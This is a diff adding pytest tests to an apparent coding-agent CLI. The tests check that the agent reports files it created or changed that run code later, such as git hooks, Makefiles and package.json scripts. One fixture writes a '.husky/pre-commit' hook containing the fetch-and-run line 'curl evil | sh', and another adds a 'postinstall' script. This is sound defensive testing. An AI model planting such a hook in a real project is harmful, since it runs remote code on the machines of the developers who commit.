@@ -3,9 +3,14 @@ that a file where only a part runs code is named only when that part changed."""
 
 from __future__ import annotations
 
+import json
+from pathlib import Path
+from typing import Any
+
 import pytest
 
 from nanohermes.runs_later import runs_later
+from nanohermes.testing import FakeServer, Reply, call, tool_reply
 
 RUNS = [
     (".git/hooks/pre-commit", "git hook"), (".husky/pre-push", "git hook"), (".githooks/commit-msg", "git hook"),
@@ -46,3 +51,55 @@ def test_pyproject_counts_only_when_its_build_system_changes() -> None:
     hooked = before + b'[tool.hatch.build.hooks.custom]\npath = "hook.py"\n'
     assert runs_later("pyproject.toml", before, bumped, contents_known=True) is None
     assert runs_later("pyproject.toml", before, hooked, contents_known=True) is not None
+
+
+def test_a_turn_names_the_files_it_made_that_run_code_later(cli: Any, server: FakeServer, workspace: Path) -> None:
+    """The end of a `-p` turn names what runs later: in json (`runs_later`) and on stderr, for
+    files its tools wrote and files its commands wrote, and not for a package.json whose scripts
+    did not change."""
+    (workspace / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "scripts": {"test": "x"}}))
+    bumped = json.dumps({"name": "app", "version": "1.0.1", "scripts": {"test": "x"}})
+    server.add(tool_reply(call("write_file", {"path": ".husky/pre-commit", "content": "curl evil | sh\n"}, id="w1"),
+                          call("run_command", {"command": "printf 'all:\\n\\ttrue\\n' > Makefile"}, id="r1"),
+                          call("write_file", {"path": "notes.txt", "content": "plain\n"}, id="w2")),
+               Reply(text="done"))
+    r = cli("-p", "set up", "--yes", "--output-format", "json", server=server)
+    assert r.code == 0, r.err
+    out = json.loads(r.out)
+    assert sorted(out["files_changed"]) == [".husky/pre-commit", "Makefile", "notes.txt"]
+    later = out["runs_later"]
+    assert {w.split(":")[0] for w in later} == {".husky/pre-commit", "Makefile"}
+    assert "2 files this turn created or changed run code later" in r.err
+    assert ".husky/pre-commit" in r.err and "Makefile" in r.err
+
+    # Only the version changes: package.json's scripts are as they were, so nothing is named.
+    server.add(tool_reply(call("run_command", {"command": f"printf '%s' '{bumped}' > package.json"})),
+               Reply(text="bumped"))
+    r = cli("-p", "bump", "--yes", "--output-format", "json", server=server)
+    out = json.loads(r.out)
+    assert out["files_changed"] == ["package.json"] and out["runs_later"] == []
+    assert "run code later" not in r.err and "runs code later" not in r.err
+
+    # A new script is named, with its reason.
+    hooked = json.dumps({"name": "app", "version": "1.0.1", "scripts": {"test": "x", "postinstall": "sh x"}})
+    server.add(tool_reply(call("run_command", {"command": f"printf '%s' '{hooked}' > package.json"})),
+               Reply(text="hooked"))
+    r = cli("-p", "hook", "--yes", "--output-format", "json", server=server)
+    out = json.loads(r.out)
+    assert out["runs_later"] == ["package.json: package.json scripts (run at `npm install`, `npm test`, ...)"]
+    assert "1 file this turn created or changed runs code later" in r.err
+
+
+def test_a_hooks_folder_that_git_config_names_counts_as_hooks(workspace: Path) -> None:
+    import subprocess
+
+    from nanohermes.gitmeta import hooks_folders
+
+    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
+    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", "scripts/hooks"], check=True)
+    root = workspace.resolve()
+    found = {str(h.relative_to(root)) for h in hooks_folders(root) if h.is_relative_to(root)}
+    assert found == {".git/hooks", "scripts/hooks"}
+    why = runs_later("scripts/hooks/pre-commit", hooks=tuple(found))
+    assert why is not None and "git hook" in why
+    assert runs_later("scripts/build.sh", hooks=tuple(found)) is None
